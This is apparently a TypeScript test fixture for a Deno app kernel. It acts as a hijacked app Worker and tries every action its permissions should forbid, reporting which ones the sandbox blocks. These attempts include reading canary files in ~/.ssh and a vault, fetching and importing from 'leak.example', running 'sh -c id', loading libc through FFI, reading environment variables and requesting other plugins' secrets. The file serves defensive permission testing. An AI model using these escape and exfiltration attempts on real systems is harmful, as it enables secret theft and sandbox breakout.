/** A hijacked app: stands in for the app Worker and tries everything its row does not grant.
 *
 * Started by `attack_kernel.ts` with the real rights of a row. Each attack reports what
 * the runtime, or the kernel, said; `got` means that it succeeded. */

import type { ToApp, ToKernel } from "../../src/contracts/mod.ts";

/** Where the attacks aim; handed in as the `--targets=` argument of the start message. */
export interface Targets {
  /** Files that hold the canary: in the vault, in `~/.ssh`, elsewhere. */
  files: Record<string, string>;
  /** Files that must not be written. */
  writes: Record<string, string>;
  /** `host:port` of a server that no row names. */
  server: string;
  /** Every kernel method there is. */
  methods: string[];
  /** Calls of them that are to be made just so, by what they try. */
  calls?: Record<string, [method: string, ...params: unknown[]]>;
}

/** What came of one attack. */
export interface Attempt {
  attack: string;
  outcome: string;
}

const scope = self as unknown as Worker;
const post = (message: ToKernel) => scope.postMessage(message);
const replies = new Map<number, (reply: string) => void>();

scope.onmessage = async ({ data }: MessageEvent<ToApp>) => {
  if (data.type === "reply") {
    return replies.get(data.id)?.(data.ok ? "got" : data.error.code);
  }
  if (data.type !== "start") return;
  const targets = JSON.parse(data.start.argv[0]!) as Targets;
  const attempts: Attempt[] = [];
  for (const [attack, run] of attacks(targets)) {
    attempts.push({ attack, outcome: await outcomeOf(run) });
  }
  // The report travels as an error's message: the kernel relays nothing else from an app.
  post({
    type: "crash",
    error: { code: "attacks.done", message: JSON.stringify(attempts), exitCode: 1 },
  });
};

async function outcomeOf(run: () => unknown): Promise<string> {
  try {
    const value = await run();
    return value === undefined ? "nothing" : typeof value === "string" ? value : "got";
  } catch (error) {
    return error instanceof Error ? error.name : String(error);
  }
}

let calls = 0;

function call(method: string, ...params: unknown[]): Promise<string> {
  const id = ++calls;
  const reply = new Promise<string>((resolve) => replies.set(id, resolve));
  post({ type: "call", id, method: method as never, params });
  return reply;
}

function* attacks(targets: Targets): Generator<[string, () => unknown]> {
  for (const [name, path] of Object.entries(targets.files)) {
    yield [`read ${name}`, () => Deno.readTextFile(path).then(() => true)];
    yield [`import ${name}`, () => import(path, { with: { type: "text" } }).then(() => true)];
    yield [`node:fs ${name}`, async () => {
      const { readFileSync } = await import("node:fs");
      return readFileSync(path).length > 0;
    }];
  }
  for (const [name, path] of Object.entries(targets.writes)) {
    yield [`write ${name}`, () => Deno.writeTextFile(path, "owned").then(() => true)];
  }
  yield ["link", () => Deno.symlink(Object.values(targets.files)[0]!, "link").then(() => true)];
  yield ["fetch", () => fetch(`http://${targets.server}/leak`).then(() => true)];
  yield ["connect", () => {
    const [hostname, port] = targets.server.split(":");
    return Deno.connect({ hostname: hostname!, port: Number(port) }).then(() => true);
  }];
  yield ["listen", () => Deno.listen({ port: 0 })];
  yield ["resolve a name", () => Deno.resolveDns("leak.example", "A").then(() => true)];
  yield ["import npm", () => import("npm:exfil-" + "canary").then(() => true)];
  yield ["import https", () => import("https://leak.example/" + "canary").then(() => true)];
  yield ["run", () => new Deno.Command("sh", { args: ["-c", "id"] }).output().then(() => true)];
  yield ["child_process", async () => {
    const { execSync } = await import("node:child_process");
    return execSync("id").length > 0;
  }];
  yield ["ffi", () => Deno.dlopen("libc.so.6", {})];
  yield ["env", () => Deno.env.get("HOME") === undefined ? undefined : true];
  yield ["all of env", () => Object.keys(Deno.env.toObject()).length === 0 ? undefined : true];
  yield ["wider worker", () => widerWorker(Object.values(targets.files)[0]!)];
  for (const method of targets.methods) {
    yield [`call ${method}`, () => call(method, "x", "x", {})];
  }
  for (const [name, [method, ...params]] of Object.entries(targets.calls ?? {})) {
    yield [name, () => call(method, ...params)];
  }
  yield ["another's secret", () => call("secret", "provider:anthropic", "curious")];
  yield ["a plugin's secret", () => call("secret", "plugin:mail:password", "curious")];
  yield ["unnamed file", () => call("readUserFile", Object.values(targets.files)[0]!)];
  yield [
    "unnamed write",
    () => call("writeUserFile", Object.values(targets.writes)[0]!, new Uint8Array()),
  ];
  yield ["toString", () => call("constructor")];
}

/** A Worker that asks for more than its parent has. */
function widerWorker(path: string): Promise<string | true> {
  const code = `try { Deno.readTextFileSync(${JSON.stringify(path)}); postMessage("got"); }
    catch (e) { postMessage(e.name); }`;
  const url = URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  return new Promise((resolve, reject) => {
    const worker = new Worker(url, {
      type: "module",
      deno: { permissions: { read: true } },
    } as WorkerOptions);
    worker.onmessage = ({ data }) => data === "got" ? resolve(true) : resolve(String(data));
    worker.onerror = (event) => {
      event.preventDefault();
      reject(new TypeError(event.message));
    };
  });
}
